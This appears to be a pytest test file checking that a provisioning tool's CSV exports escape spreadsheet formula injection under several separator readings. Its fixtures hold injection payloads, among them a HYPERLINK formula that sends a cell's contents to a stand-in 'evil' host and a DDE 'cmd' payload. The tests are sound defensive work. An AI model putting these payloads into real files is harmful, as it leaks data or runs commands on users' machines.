"""A family or an agent names things so that a spreadsheet takes a cell of results.csv for a formula.

Text that begins like a formula gets an apostrophe in front; numbers stay numbers. Spreadsheets of many countries
separate cells by semicolons, or also by semicolons, so a formula may not begin in the middle of a text either.
"""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest

from provisioner.batch.results import Row, as_csv
from provisioner.cli.commands.costs import _csv
from provisioner.costs.ledger import Entry
from tests.attacks.entries import entry

FORMULAS = {
    "equals": '=HYPERLINK("http://evil/"&A1,"ok")',
    "plus": "+1+cmd|'/C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "spaces": "  =1+1",
    "wide": "\uff1d1+1",
}


# In the middle of a text, where one spreadsheet or another begins a cell.
INNER = {
    "semicolon": "x;=HYPERLINK(1)",
    "space": "x; =1+1",
    "quote": 'x;"=1+1"',
    "quotes": 'x;""=1+1',
    "comma": "x,=1+1",
    "comma_quote": 'x","=1+1',
    "bar": "x|+1+1",
    "tab": "x\t=1+1",
    "line": "x\n=2+2",
    "return": "x\r@SUM(1)",
    "lines": "x\n\n-2+3",
    "wide": "x;\uff1d1+1",
}
# As spreadsheets read a file: by commas, by semicolons, by several characters at once.
READINGS = (",", ";", "\t", "|", ",;\t", ",;\t|")


def read_as(text: str, separators: str) -> list[str]:
    """Reads a file as a lenient spreadsheet does: a quote counts only at the beginning of a cell and before its end."""
    quoted = rf'"(?:[^"]|"")*"(?=[{separators}\n]|\Z)'
    found = re.findall(rf"(?:\A|[{separators}\n])(?:({quoted})|([^{separators}\n]*))", text)
    return [cell[1:-1].replace('""', '"') if cell else plain for cell, plain in found]


@pytest.mark.parametrize("separators", READINGS, ids=["comma", "semicolon", "tab", "bar", "usual", "all"])
@pytest.mark.parametrize("formula", [*FORMULAS.values(), *INNER.values()], ids=[*FORMULAS, *(f"in_{n}" for n in INNER)])
def test_no_formula_begins_where_another_separator_begins_a_cell(formula: str, separators: str) -> None:
    rows = [row(message=formula, agent=formula, retried=(formula,), images={formula: formula})]
    costs = _csv(Entry, [entry(family=formula, task=formula, project=formula)])
    for text in (as_csv(rows), costs):
        for cell in read_as(text, separators):
            assert not cell.lstrip(' "\t').startswith(("=", "+", "-", "@", "\uff1d")), cell


def test_lists_in_cells_stay_json() -> None:
    [line] = csv.DictReader(io.StringIO(as_csv([row(retried=('x;="y"', "z"), images={"primary": "i"})])))
    assert json.loads(line["retried"]) == ['x;\'="y"', "z"]
    assert json.loads(line["images"]) == {"primary": "i"}


def cells(text: str) -> list[str]:
    return [cell for row in csv.DictReader(io.StringIO(text, newline="")) for cell in row.values()]


def row(**changes: Any) -> Row:
    fields = {"key": "fam/main/one/1", "family": "fam", "task": "main", "agent": "one", "repetition": 1}
    return Row.model_validate({**fields, "outcome": "scored", **changes})


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS)
def test_no_cell_of_a_batch_is_a_formula(formula: str) -> None:
    text = as_csv([row(task=formula, message=formula, agent=formula, environment=formula, retried=(formula,))])
    for cell in cells(text):
        assert cell[:1] not in ("=", "+", "@", "-", "\t", "\r", "\n", " ", "\uff1d"), cell
    assert any(formula.strip() in cell for cell in cells(text))


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS)
def test_no_cell_of_the_costs_is_a_formula(formula: str) -> None:
    for cell in cells(_csv(Entry, [entry(family=formula, task=formula, project=formula)])):
        assert cell[:1] not in ("=", "+", "@", "-", "\t", "\r", "\n", " ", "\uff1d"), cell


def test_numbers_stay_numbers() -> None:
    [line] = csv.DictReader(io.StringIO(as_csv([row(score=-1.5, agent_exit_code=-1, task="-x")])))
    assert (line["score"], line["agent_exit_code"], line["task"]) == ("-1.5", "-1", "'-x")
